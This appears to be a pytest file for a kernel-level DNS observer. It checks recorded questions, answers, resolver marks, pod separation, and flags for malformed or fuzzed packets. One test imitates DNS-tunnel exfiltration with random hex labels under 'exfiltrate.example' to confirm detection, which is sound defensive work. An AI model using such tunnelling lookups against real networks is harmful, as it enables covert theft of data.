"""Names as this kernel's packets tell them: real programs, a real DNS server, namespaces and pods of the test's own."""

from __future__ import annotations

import random
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest

from tests import packets, require
from tests.cgroups import TestCgroup
from tests.configured import configured
from tests.kernel.observed import Observed
from tests.kernel.pool import ObserverKind, Watch
from tests.network import DnsServer, NetworkNamespace
from tests.unit.dissect.test_dns import mutated

pytestmark = pytest.mark.xdist_group("pool of names")

_HERE = str(Path(__file__).parents[2])
_RECORDS = (
    "--host-record=web.example,192.0.2.10,2001:db8::10,5",
    "--host-record=one.example,127.0.0.9",
    "--host-record=two.example,127.0.0.9",
    "--cname=www.example,web.example",
    "--txt-record=text.example,hello",
)
#: Ask once over the given transport: SERVER TRANSPORT NAME TYPE.
_ASK = """
import sys, dns.message, dns.query
server, transport, name, kind = sys.argv[1:]
question = dns.message.make_query(name, kind)
print(getattr(dns.query, transport)(question, server, timeout=5).to_text())
"""


@pytest.fixture(scope="module")
def observer_kind() -> ObserverKind:
    """Cgroups in v2 alone."""
    return ObserverKind(hierarchies="unified")


@pytest.fixture(scope="module", autouse=True)
def programs() -> None:
    """What these tests start."""
    require.programs("dns", "dnsmasq", "curl", "ip")


def _ask(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, *words: str) -> str:
    child = cgroup.run(namespace.command([sys.executable, "-c", _ASK, *words]), stdout=subprocess.PIPE)
    answer = child.communicate()[0].decode()
    assert child.returncode == 0
    return answer


def _run(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, code: str, *words: str) -> str:
    child = cgroup.run(namespace.command([sys.executable, "-c", code, *words]), stdout=subprocess.PIPE, cwd=_HERE)
    said = child.communicate()[0].decode()
    assert child.returncode == 0
    return said


def _names(observed: Observed | Watch, where: str = "true") -> list[dict[str, Any]]:
    return observed.rows(f"SELECT * FROM name WHERE {where} ORDER BY ktime")


@pytest.mark.parametrize("transport", ["udp", "tcp"])
@pytest.mark.parametrize("server", ["127.0.0.1", "::1"])
def test_questions_and_answers_with_their_process(
    watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path, transport: str, server: str
) -> None:
    """A, AAAA, aliases, text, and a name that is not: over UDP and TCP, IPv4 and IPv6, each with process, resolver and latency."""
    cgroup, servers, namespace = watched
    DnsServer(servers, namespace, tmp_path, *_RECORDS, address=server)
    asked = [
        ("web.example", "A"),
        ("web.example", "AAAA"),
        ("www.example", "A"),
        ("text.example", "TXT"),
        ("no.example", "A"),
    ]
    with cgroup as observed:
        for name, kind in asked:
            _ask(cgroup, namespace, server, transport, name, kind)
    rows = _names(observed)
    assert [(row["name"], row["type"], row["event"]) for row in rows] == [
        (*one, event) for one in asked for event in ("question", "answer")
    ]
    for question, answer in zip(rows[::2], rows[1::2], strict=True):
        for row in (question, answer):
            assert row["exe"].endswith(Path(sys.executable).resolve().name) and row["pid"] == question["pid"]
            assert (row["transport"], row["peer_address"], row["peer_port"]) == (transport, server, 53)
            assert row["ns_net"] == namespace.number and row["marks"] is None and row["cookie"] == question["cookie"]
        assert (question["direction"], answer["direction"], answer["query_id"]) == ("out", "in", question["query_id"])
        assert answer["latency"] == answer["ktime"] - question["ktime"] > 0
        known = observed.rows(f"SELECT args FROM process WHERE event = 'exec' AND exec_id = '{question['exec_id']}'")
        assert question["name"] in known[0]["args"]
    answers = {(row["name"], row["type"]): row for row in rows[1::2]}
    assert answers["web.example", "A"]["addresses"] == ["192.0.2.10"] and answers["web.example", "A"]["ttl"] == 5
    assert answers["web.example", "AAAA"]["addresses"] == ["2001:db8::10"]
    assert answers["www.example", "A"]["addresses"] == ["192.0.2.10"]
    assert any(" CNAME web.example." in text for text in answers["www.example", "A"]["records"])
    assert answers["text.example", "TXT"]["records"] == ['text.example 0 TXT "hello"']
    assert answers["no.example", "A"]["rcode"] == "NXDOMAIN" and answers["no.example", "A"]["addresses"] is None
    assert not observed.lost()


def test_the_servers_side_is_a_question_that_came_in(
    watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path
) -> None:
    """An observed resolver: what it was asked and what it answered, by its own process."""
    servers, others, namespace = watched
    with servers as observed:
        DnsServer(servers, namespace, tmp_path, *_RECORDS)
        _ask(others, namespace, "127.0.0.1", "udp", "web.example", "A")
    question, answer = _names(observed)
    assert (question["event"], question["direction"], answer["event"], answer["direction"]) == (
        "question",
        "in",
        "answer",
        "out",
    )
    assert question["exe"].endswith("dnsmasq") and answer["latency"] is not None and answer["marks"] is None


def test_a_connection_has_all_names_of_its_address(
    watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path
) -> None:
    """Two names for one address, the newest first; resolved in one process, connected from another; a close keeps them; no name, none."""
    cgroup, servers, namespace = watched
    DnsServer(servers, namespace, tmp_path, *_RECORDS)
    _serve(servers, namespace, "127.0.0.9")
    _serve(servers, namespace, "127.0.0.8")
    connect = "import socket, sys\nfor address in sys.argv[1:]: socket.create_connection((address, 8080)).close()"
    with cgroup as observed:
        _run(
            cgroup, namespace, "import socket; socket.gethostbyname('one.example'); socket.gethostbyname('two.example')"
        )
        _run(cgroup, namespace, connect, "127.0.0.9", "127.0.0.8")
        query = "SELECT * FROM connection WHERE transport = 'tcp' AND peer_port = 8080 ORDER BY ktime"
        observed.wait(query, 4)
    rows = observed.rows(query)
    by_address: dict[str, list[Any]] = {}
    for row in rows:
        by_address.setdefault(row["peer_address"], []).append((row["event"], row["names"]))
    assert by_address["127.0.0.9"] == [
        ("connect", ["two.example", "one.example"]),
        ("close", ["two.example", "one.example"]),
    ]
    assert [names for _, names in by_address["127.0.0.8"]] == [None, None]


def _serve(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, address: str, port: int = 8080) -> None:
    """Something that accepts and reads to the end."""
    code = (
        "import socket, sys\nserver = socket.create_server((sys.argv[1], int(sys.argv[2])))\nprint('up', flush=True)\n"
        "while True:\n    peer, _ = server.accept()\n    while peer.recv(65536): pass\n    peer.close()\n"
    )
    child = cgroup.run(namespace.command([sys.executable, "-c", code, address, str(port)]), stdout=subprocess.PIPE)
    assert child.stdout is not None and child.stdout.readline() == b"up\n"


def _pod(cgroup: TestCgroup) -> tuple[str, Path]:
    """A pod's container below a cgroup: its uid and folder."""
    uid = str(uuid.uuid4())
    return uid, cgroup.below(f"kubepods/besteffort/pod{uid}/{uuid.uuid4().hex * 2}")


def _in_pod(folder: Path, namespace: NetworkNamespace, code: str) -> None:
    def enter() -> None:  # before the namespace, which has a /sys of its own
        (folder / "cgroup.procs").write_text("0")

    subprocess.run(namespace.command([sys.executable, "-c", code]), check=True, preexec_fn=enter)


def test_two_pods_never_mix(watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path) -> None:
    """One name with another address in each pod, and one address with another name: each pod's connection has its own."""
    cgroup, servers, namespace = watched
    DnsServer(
        servers, namespace, tmp_path, "--host-record=shop.example,127.0.0.7", "--host-record=mine.example,127.0.0.6"
    )
    _serve(servers, namespace, "0.0.0.0")
    with NetworkNamespace() as other:
        DnsServer(
            servers,
            other,
            tmp_path,
            "--host-record=shop.example,127.0.0.6",
            "--host-record=theirs.example,127.0.0.7",
            address="127.0.0.1",
        )
        _serve(servers, other, "0.0.0.0")
        pods = [(_pod(cgroup.cgroup), namespace, "mine.example"), (_pod(cgroup.cgroup), other, "theirs.example")]
        code = "import socket\nfor name in ('shop.example', {!r}): socket.create_connection((socket.gethostbyname(name), 8080)).close()\n"
        with cgroup as observed:
            for (_, folder), where, own in pods:
                _in_pod(folder, where, code.format(own))
    for ((uid, _), _, own), (shop, mine) in zip(
        pods, (("127.0.0.7", "127.0.0.6"), ("127.0.0.6", "127.0.0.7")), strict=True
    ):
        rows = observed.rows(
            f"SELECT peer_address, names FROM connection WHERE pod_uid = '{uid}' AND event = 'connect' AND peer_port = 8080"
        )
        assert {row["peer_address"]: row["names"] for row in rows} == {shop: ["shop.example"], mine: [own]}


def test_another_resolver_is_marked_by_setting(
    places: tuple[TestCgroup, TestCgroup, NetworkNamespace],
    history: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """network.resolvers names one; the other one's rows are marked, both ways."""
    cgroup, servers, namespace = places
    configured(tmp_path, monkeypatch, '[network]\nresolvers = ["127.0.0.1"]\n')
    for address in ("127.0.0.1", "127.0.0.2"):
        DnsServer(servers, namespace, tmp_path, *_RECORDS, address=address)
    with Observed(history, [cgroup.path]) as observed:
        for address in ("127.0.0.1", "127.0.0.2"):
            _ask(cgroup, namespace, address, "udp", "web.example", "A")
    marks = [(row["peer_address"], row["marks"]) for row in _names(observed)]
    assert marks == [("127.0.0.1", None)] * 2 + [("127.0.0.2", "FOREIGN_RESOLVER")] * 2
    settings = observed.rows("SELECT settings FROM observer WHERE event = 'start'")[0]["settings"]
    assert '"resolvers": ["127.0.0.1/32"]' in settings


def test_a_tunnel_stand_in_is_marked(watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path) -> None:
    """60 names with 28 bytes each in them, for one domain: from the twentieth on, with the domain in the reason."""
    cgroup, servers, namespace = watched
    DnsServer(servers, namespace, tmp_path)
    code = (
        "import os, socket\nfor _ in range(60):\n    try: socket.gethostbyname(f'{os.urandom(28).hex()}.exfiltrate.example')\n"
        "    except OSError: pass\n"
    )
    with cgroup as observed:
        _run(cgroup, namespace, code)
        _run(cgroup, namespace, "import socket; socket.gethostbyname('localhost')")
    marked = _names(observed, "event = 'question' AND contains(marks, 'TUNNEL')")
    assert 35 <= len(marked) <= 45 and all("exfiltrate.example" in row["reason"] for row in marked)
    assert not _names(observed, "contains(marks, 'TUNNEL') AND name NOT LIKE '%.exfiltrate.example'")


_RAW = """
import socket, sys
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(('127.0.0.1', 53))
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.bind(('127.0.0.1', 0))
for line in sys.stdin.read().split():
    direction, _, payload = line.partition(':')
    if direction == 'q':
        client.sendto(bytes.fromhex(payload), ('127.0.0.1', 53))
    else:
        server.sendto(bytes.fromhex(payload), client.getsockname())
"""


def _raw(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, messages: list[tuple[str, bytes]]) -> None:
    """Datagrams between a client's socket and a server's on port 53, in one process."""
    child = cgroup.run(namespace.command([sys.executable, "-c", _RAW]), stdin=subprocess.PIPE)
    child.communicate("\n".join(f"{direction}:{wire.hex()}" for direction, wire in messages).encode())
    assert child.returncode == 0


def test_what_is_remarkable_is_marked(places: tuple[TestCgroup, TestCgroup, NetworkNamespace], history: Path) -> None:
    """Malformed, looping, oversized, truncated by its sender and by us, unasked: each with its mark and reason."""
    cgroup, _, namespace = places
    asked = packets.question("x.example.", number=5)
    long = packets.answer(asked, ("x.example.", 5, "TXT", [f'"{i:0250}"' for i in range(30)]))
    with Observed(history, [cgroup.path]) as observed:
        started = observed.rows("SELECT max(ktime) AS ktime FROM observer")[0]["ktime"]
        sent = [
            ("q", b"\0\1"),
            ("q", asked[:12] + b"\xc0\x0c\0\1\0\1"),
            ("q", asked),
            ("a", long),
            ("a", packets.answer(asked, flags=0x200)),
        ]
        _raw(cgroup, namespace, sent)
        observed.wait(f"SELECT 1 FROM observer WHERE ktime > {started + 6_000_000_000}")
        _raw(cgroup, namespace, [("a", packets.answer(packets.question("y.example.", number=9)))])
    rows = _names(observed, "local_port <> 53")
    assert [row["marks"] for row in rows] == ["MALFORMED", "LOOP", None, "OVERSIZED,TRUNCATED", "TRUNCATED", "UNASKED"]
    assert (
        rows[3]["message_bytes"] == len(long)
        and rows[3]["name"] == "x.example"
        and all(row["reason"] for row in rows if row["marks"])
    )
    assert not observed.lost()


@pytest.mark.landing("thousands of messages")
def test_thousands_of_mutated_messages_never_hurt(
    places: tuple[TestCgroup, TestCgroup, NetworkNamespace], history: Path
) -> None:
    """Questions and answers broken in every way, really sent: each is a row at both ends or counted, and processes are recorded on."""
    cgroup, _, namespace = places
    chance = random.Random(4)
    asked = packets.question(use_edns=0)
    answer = packets.answer(
        asked, ("www.example.org.", 5, "CNAME", ["a.example."]), ("a.example.", 6, "A", ["192.0.2.1"])
    )
    messages = [(kind, mutated(chance, wire)) for _ in range(1000) for kind, wire in (("q", asked), ("a", answer))]
    messages = [(kind, wire) for kind, wire in messages if wire]
    with Observed(history, [cgroup.path]) as observed:
        _raw(cgroup, namespace, messages)
        cgroup.run(["/bin/true", "after all of it"]).wait()
    out = observed.rows("SELECT count(*) AS n FROM name WHERE direction = 'out'")[0]["n"]
    assert out <= len(messages) <= out + observed.lost()
    assert observed.rows("SELECT 1 FROM process WHERE list_contains(args, 'after all of it')")
    assert not observed.rows(
        "SELECT 1 FROM loss WHERE contains(detail, 'answer was none') OR contains(detail, 'not answer')"
    )
